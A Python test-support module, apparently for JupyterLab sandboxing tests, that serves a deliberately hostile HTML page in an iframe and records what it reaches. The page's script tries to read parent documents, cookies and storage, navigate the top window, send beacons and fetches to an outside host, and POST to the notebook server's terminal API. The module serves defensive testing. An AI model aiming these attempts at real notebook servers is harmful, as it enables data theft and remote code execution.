"""A page that tries all that a page can to reach what is around it, and a host that hears of it."""

from __future__ import annotations

import os
import signal
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from subprocess import DEVNULL

from tests.support.jupyterlab import FLAGS

# Each tells what it came to: what it has read, or the error. HOME is the notebook's server, HOST is the hostile one's.
PAGE = """<!DOCTYPE html><title>hostile</title><h1>Seen in the frame</h1><pre id=said>begun</pre>
<img src="HOST/img"><link rel=stylesheet href="HOST/css"><script src="HOST/js"></script><video src="HOST/video"></video>
<iframe src="HOST/frame"></iframe><object data="HOST/object"></object><embed src="HOST/embed">
<form id=form action="HOST/form" method=post><input name=a value=b></form>
<form id=upper action="HOST/upper" target=_top></form><form id=other action="HOST/other" target=_blank></form>
<a id=script href="javascript:document.body.append('ran'); top.hacked = 1">a script</a>
<a id=up href="HOST/up" target=_top>up</a> <a id=blank href="HOST/blank" target=_blank>blank</a>
<a id=down href="#there">down</a> <p style="height: 3000px">tall</p> <p id=there>there</p>
<script>
const attempts = {
  parent: () => parent.document.title, top: () => top.document.title, app: () => top.jupyterapp.version,
  write: () => { top.hacked = 1 }, name: () => parent.name, frame: () => frameElement,
  cookie: () => document.cookie, storage: () => localStorage.length, database: () => indexedDB.open("a") && "opened",
  up: () => { top.location = "HOST/top" }, hash: () => { top.location.hash = "#hacked" },
  beside: () => { parent.location = "HOST/parent" }, opened: () => open("HOST/open"), alert: () => alert(1),
  form: () => form.submit(), upper: () => upper.submit(), other: () => other.submit(),
  beacon: () => navigator.sendBeacon("HOST/beacon", "a"), worker: () => new Worker("HOST/worker") && "started",
  click: () => { for (const a of [up, blank]) a.click() },
}
const waited = {
  api: () => fetch("HOME/api/contents", {credentials: "include"}).then(r => r.status),
  terminal: () => fetch("HOME/api/terminals", {method: "POST", mode: "no-cors"}).then(r => r.type),
  fetched: () => fetch("HOST/fetch", {mode: "no-cors"}).then(r => r.type),
  relative: () => fetch("/api/contents").then(r => r.status),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("HOST/socket".replace("http", "ws")); socket.onopen = yes; socket.onerror = no }),
}
const seen = () => ({
  base: document.baseURI, referrer: document.referrer, location: location.href, origin: self.origin,
  title: document.title, entries: performance.getEntries().map(e => e.name), stack: new Error().stack,
  name: self.name, history: self.navigation?.entries().map(e => e.url), ancestors: [...location.ancestorOrigins ?? []],
})
const policy = []
addEventListener("securitypolicyviolation",
  e => policy.push([e.documentURI, e.referrer, e.sourceFile, e.originalPolicy]))
async function go() {
  for (const base of document.querySelectorAll("base")) base.remove()
  const said = {}
  for (const [name, attempt] of Object.entries(attempts))
    try { said[name] = String(attempt()) } catch (error) { said[name] = error.name }
  for (const [name, attempt] of Object.entries(waited))
    try { said[name] = String(await attempt()) } catch (error) { said[name] = error.name ?? error.type }
  document.getElementById("said").textContent = JSON.stringify({said, seen: seen(), policy})
}
onload = () => go()
</script>"""


class Host:
    """What it was asked for, by path."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.heard: list[str] = []
        self._changed = threading.Condition()

    def hear(self, path: str) -> None:
        with self._changed:
            self.heard.append(path)
            self._changed.notify_all()

    def wait_for(self, enough: Callable[[set[str]], bool]) -> None:
        with self._changed:
            self._changed.wait_for(lambda: enough(set(self.heard)))

    def page(self, home: str) -> str:
        return PAGE.replace("HOME", home).replace("HOST", self.url)


@contextmanager
def browsing(chromium: str, url: str, profile: Path) -> Iterator[None]:
    """In a browser that nothing steers: what the page does to it is no matter of a test's."""
    command = [chromium, "--headless", *FLAGS, f"--user-data-dir={profile}", url]
    process = subprocess.Popen(command, stdout=DEVNULL, stderr=DEVNULL, stdin=DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@contextmanager
def host() -> Iterator[Host]:
    """It gives the hostile page itself for the path `/`, in a frame that isolates nothing."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.hear(self.path)
            source = found.page(found.url).replace("&", "&amp;").replace('"', "&quot;")
            body = f'<body><iframe srcdoc="{source}"></iframe>'.encode() if self.path == "/" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 (the base class has it so)

        def log_message(self, *_: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Host(f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join()
